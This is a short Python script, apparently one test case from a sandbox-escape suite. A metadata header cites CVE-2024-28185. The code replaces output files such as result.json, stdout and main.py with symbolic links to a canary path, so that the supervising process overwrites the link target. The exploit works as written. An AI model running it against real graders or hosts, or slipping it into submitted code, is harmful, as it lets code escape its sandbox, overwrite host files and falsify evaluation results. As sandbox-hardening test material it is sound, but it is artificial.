# /// attack
# guarantee = "filesystem_write"
# summary = "Leaves symbolic links where its supervisor will write, so that the host's file is overwritten through them."
# reference = "CVE-2024-28185"
# success = "a supervisor that writes beside the program changes the canary"
# stage = ["canary"]
# observe = ["changed"]
# control = { success = "status 0", collector = "write" }
# refusal = { default = "verdict completed" }
# ///

import os

NAMES = ("answer", "result.json", "run", "main.py", "stdout", "stderr", "kit.py")
for folder in {os.getcwd(), os.environ.get("TMPDIR", ".")}:
    for name in NAMES:
        path = os.path.join(folder, name)
        try:
            os.unlink(path)
        except OSError:
            pass
        try:
            os.symlink(os.environ["ATTACK_CANARY"], path)
        except OSError:
            continue
os._exit(0)
